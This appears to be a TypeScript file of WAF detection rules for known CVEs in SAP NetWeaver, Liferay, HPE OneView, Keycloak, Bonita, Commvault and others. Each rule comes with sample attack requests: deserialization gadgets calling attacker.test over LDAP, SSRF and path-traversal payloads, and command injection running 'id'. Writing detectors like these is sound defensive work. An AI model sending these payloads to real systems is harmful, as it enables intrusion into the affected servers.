import { filePost, formPost, get, jsonPost, send, xmlPost } from '../../../request-samples.ts';
import {
  allOf,
  anyOf,
  bodyHas,
  fieldMatches,
  methodIs,
  pathHas,
  queryHas,
  rawPathHas,
} from '../conditions.ts';
import { detection } from '../targeted-rule.ts';

/** Platforms for companies. */
export const enterpriseRules = [
  detection({
    ref: 'managed-sap-netweaver-upload',
    description:
      'SAP NetWeaver: uploads files without authentication (CVE-2025-31324, CVE-2025-42999)',
    categories: [
      'sap',
      'file-upload',
      'deserialization',
      'remote-code-execution',
      'cve-2025-31324',
      'cve-2025-42999',
    ],
    expression: allOf(
      pathHas('/developmentserver/metadatauploader'),
      anyOf(methodIs('POST'), queryHas('contenttype=')),
    ),
    matching: [
      filePost('/developmentserver/metadatauploader?CONTENTTYPE=MODEL&CLIENT=1', 'helper.jsp'),
      send('HEAD', '/developmentserver/metadatauploader?CONTENTTYPE=MODEL', 'text/plain', ''),
    ],
    other: [get('/developmentserver/'), get('/irj/portal')],
  }),
  detection({
    ref: 'managed-sap-recon',
    description:
      'SAP NetWeaver: creates an administrator with the configuration wizard (RECON, CVE-2020-6287, CVE-2010-5326)',
    categories: [
      'sap',
      'authentication-bypass',
      'command-injection',
      'cve-2020-6287',
      'cve-2010-5326',
    ],
    expression: anyOf(
      allOf(pathHas('/ctcwebservice/ctcwebservicebean'), methodIs('POST')),
      allOf(pathHas('/ctc/servlet/'), queryHas('execute_cmd', 'configservlet', 'param=com.sap')),
    ),
    matching: [
      xmlPost(
        '/CTCWebService/CTCWebServiceBean/ConfigServlet',
        '<urn:executeSynchronious><identifier><component>sap.com/tc~lm~config~content</component></identifier></urn:executeSynchronious>',
      ),
      get(
        '/ctc/servlet/com.sap.ctc.util.ConfigServlet?param=com.sap.ctc.util.FileSystemConfig;EXECUTE_CMD;CMDLINE=id',
      ),
    ],
    other: [get('/CTCWebService/CTCWebServiceBean?wsdl'), get('/ctc/index.html')],
  }),
  detection({
    ref: 'managed-liferay-json-object',
    description: 'Liferay Portal: creates objects with the JSON web services (CVE-2020-7961)',
    categories: ['liferay', 'deserialization', 'remote-code-execution', 'cve-2020-7961'],
    expression: allOf(
      pathHas('/api/jsonws'),
      bodyHas(
        'useroverridesasstring',
        'hexasciiserializedmap',
        'wrapperconnectionpooldatasource',
        'jndirefforwardingdatasource',
        '+defaultdata',
        'defaultdata.',
      ),
    ),
    matching: [
      formPost('/api/jsonws/invoke', {
        cmd: '{"/expandocolumn/update-column":{}}',
        '+defaultData': 'com.mchange.v2.c3p0.WrapperConnectionPoolDataSource',
        'defaultData.userOverridesAsString': 'HexAsciiSerializedMap:aced;',
      }),
      formPost('/api/jsonws/expandocolumn/update-column', {
        columnId: '1',
        'defaultData:com.mchange.v2.c3p0.JndiRefForwardingDataSource':
          '{"jndiName":"ldap://attacker.test/x"}',
      }),
    ],
    other: [
      formPost('/api/jsonws/invoke', { cmd: '{"/journalarticle/get-article":{"groupId":1}}' }),
      get('/api/jsonws'),
    ],
  }),
  detection({
    ref: 'managed-beanshell-servlet',
    description: 'Yonyou NC, Weaver E-cology: run code with a BeanShell servlet (CNVD-2021-30167)',
    categories: ['yonyou', 'weaver', 'code-injection', 'remote-code-execution'],
    expression: pathHas('bsh.servlet.bshservlet'),
    matching: [
      formPost('/servlet/~ic/bsh.servlet.BshServlet', { 'bsh.script': 'exec("id");' }),
      get('/weaver/bsh.servlet.BshServlet'),
    ],
    other: [get('/servlet/~ic/login'), get('/weaver/login.jsp')],
  }),
  detection({
    ref: 'managed-hpe-oneview-command',
    description: 'HPE OneView: runs commands without authentication (CVE-2025-37164)',
    categories: ['hpe', 'command-injection', 'cve-2025-37164'],
    expression: pathHas('/rest/id-pools/executecommand'),
    matching: [
      send('PUT', '/rest/id-pools/executeCommand', 'application/json', '{"cmd":"id","result":0}'),
      jsonPost('/rest/id-pools/executeCommand', { cmd: 'id' }),
    ],
    other: [get('/rest/id-pools/vmac'), get('/rest/login-sessions')],
  }),
  detection({
    ref: 'managed-keycloak-request-uri',
    description:
      'Keycloak: requests internal hosts with the address of a request object (CVE-2020-10770)',
    categories: ['keycloak', 'ssrf', 'cve-2020-10770'],
    action: 'log',
    expression: allOf(
      pathHas('/protocol/openid-connect/auth'),
      fieldMatches('request_uri', '^https?:'),
    ),
    matching: [
      get(
        '/auth/realms/master/protocol/openid-connect/auth?scope=openid&response_type=code&redirect_uri=valid&client_id=a&request_uri=http://127.0.0.1:8080',
      ),
      get('/realms/x/protocol/openid-connect/auth?request_uri=https%3A%2F%2Fattacker.test'),
    ],
    other: [
      get('/realms/x/protocol/openid-connect/auth?client_id=a&response_type=code&scope=openid'),
      get(
        '/realms/x/protocol/openid-connect/auth?request_uri=urn:ietf:params:oauth:request_uri:5f',
      ),
    ],
  }),
  detection({
    ref: 'managed-bonita-translation-suffix',
    description:
      'Bonita: skips authentication with the name of a translation behind an API (CVE-2022-25237)',
    categories: ['bonita', 'authentication-bypass', 'cve-2022-25237'],
    expression: allOf(
      rawPathHas('i18ntranslation'),
      rawPathHas(';i18ntranslation', '/i18ntranslation/../', '/i18ntranslation/%2e'),
    ),
    matching: [
      filePost('/bonita/API/pageUpload;i18ntranslation?action=add', 'x.zip'),
      get('/bonita/portal/i18ntranslation/../API/identity/user'),
    ],
    other: [get('/bonita/API/system/i18ntranslation?f=locale%3den'), get('/bonita/login.jsp')],
  }),
  detection({
    ref: 'managed-commvault-deployment',
    description: 'Commvault: deploys an archive of another site (CVE-2025-34028)',
    categories: ['commvault', 'ssrf', 'remote-code-execution', 'cve-2025-34028'],
    expression: pathHas(
      '/commandcenter/deploywebpackage.do',
      '/commandcenter/deployservicecommcell.do',
    ),
    matching: [
      formPost('/commandcenter/deployWebpackage.do', {
        commcellName: 'attacker.test',
        servicePack: '../../Reports/MetricsUpload/x/',
        version: '1',
      }),
      get('/commandcenter/deployServiceCommcell.do'),
    ],
    other: [get('/commandcenter/login'), get('/commandcenter/dashboard.do')],
  }),
];
